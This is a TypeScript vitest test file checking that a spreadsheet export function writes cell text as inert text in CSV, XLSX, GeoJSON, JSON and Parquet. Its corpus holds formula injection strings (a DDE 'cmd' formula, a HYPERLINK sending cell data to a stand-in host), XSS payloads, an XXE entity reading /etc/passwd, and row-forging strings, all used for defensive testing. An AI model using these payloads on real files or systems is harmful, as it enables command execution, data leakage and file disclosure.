import { describe, expect, test } from 'vitest';
import Papa from 'papaparse';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import readSheets from 'read-excel-file/universal';
import { strFromU8, unzipSync } from 'fflate';
import { type FormatId, writeFile } from '../../../src/sheets/writeFile.ts';
import type { Column, Row, Sheet, SheetLink } from '../../../src/sheets/Sheet.ts';

/** What a spreadsheet would run. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://a.example/?"&A1,"Read")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1";=2+2',
];

/** What a page or a reader of XML would run, open or fetch. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  ']]><c t="str"><f>1+1</f></c>',
  '</t></is></c><c><f>1+1</f></c>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '&lt;b&gt;',
  '"}],"rows":[{"id":"forged"}]',
  'a\r\nforged,row',
];

const CORPUS = [...FORMULAS, ...MARKUP];
const KINDS = ['text', 'list', 'links', 'number', 'number'] as const;
const KEYS = ['id', 'states', 'sources', 'lng', 'lat'];
const columns: readonly Column[] = KINDS.map((kind, at) => ({
  key: KEYS[at]!,
  kind,
  about: CORPUS[at]!,
}));

function sheetOf(text: string): Sheet {
  return { name: text, columns, about: { address: text, licence: text } };
}

function rowOf(text: string): Row {
  const link: SheetLink = { name: text, address: text };
  return [text, [text, text], [link], -77.04, -12.05];
}

const rows = CORPUS.map(rowOf);

/** What each text must hold in a file of the format, as another hand reads it. */
const HOLDS: Readonly<Record<FormatId, (file: Blob) => Promise<void>>> = {
  csv: async (file) => {
    const { data } = Papa.parse<string[]>((await file.text()).replace(/^\uFEFF/, ''), {
      newline: '\r\n',
      skipEmptyLines: true,
    });
    expect(data).toHaveLength(rows.length + 1);
    data.slice(1).forEach(([id = '', states = '', sources = '', lng], at) => {
      for (const cell of [id, states, sources]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(id.replace(/^'/, '')).toBe(CORPUS[at]);
      expect(lng).toBe('-77.04');
    });
  },
  xlsx: async (file) => {
    const bytes = await file.arrayBuffer();
    const parts = unzipSync(new Uint8Array(bytes));
    expect(Object.keys(parts).filter((path) => /macro|external|vba/i.test(path))).toEqual([]);
    for (const path of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']) {
      const xml = strFromU8(parts[path]!);
      // without what the cells say, no tag but those of a sheet is left
      const tags = new Set([...xml.matchAll(/<[/?!]?(\w+)/g)].map(([, tag]) => tag));
      for (const tag of ['f', 'script', 'img', 'DOCTYPE', 'ENTITY'])
        expect(tags).not.toContain(tag);
      const typed = [...xml.matchAll(/<c ([^>]*)>/g)].map(([, said = '']) => said);
      const isText = typed.filter((said) => said.includes('t="inlineStr"'));
      const numbers = path.includes('sheet1') ? 2 * rows.length : 0;
      expect(typed.length - isText.length).toBe(numbers);
    }
    const [first] = await readSheets(bytes);
    expect(first!.data).toHaveLength(rows.length + 1);
    // it trims what it reads
    expect(first!.data.slice(1).map(([id]) => id)).toEqual(CORPUS.map((text) => text.trim()));
  },
  geojson: async (file) => {
    const { features } = JSON.parse(await file.text()) as { features: { id: string }[] };
    expect(features.map(({ id }) => id)).toEqual(CORPUS);
  },
  json: async (file) => {
    const { rows: read } = JSON.parse(await file.text()) as { rows: Record<string, unknown>[] };
    expect(read.map((row) => KEYS.map((key) => row[key]))).toEqual(rows);
  },
  parquet: async (blob) => {
    const file = await blob.arrayBuffer();
    const read = await parquetReadObjects({ file });
    expect(read.map((row) => KEYS.map((key) => row[key] as unknown))).toEqual(rows);
    // texts are typed as texts: none is a number, a date or a document
    const types = new Set(
      parquetMetadata(file).schema.flatMap(({ type, converted_type: is }) => (type ? [is] : [])),
    );
    expect(types).toEqual(new Set(['UTF8', undefined]));
  },
};

describe.each(Object.keys(HOLDS) as FormatId[])('%s', (id) => {
  test('holds each text that would run elsewhere as a text, and no row that one forges', async () => {
    expect.hasAssertions();
    for (const text of CORPUS) await HOLDS[id](await writeFile(id, sheetOf(text), [rows]));
  });
});
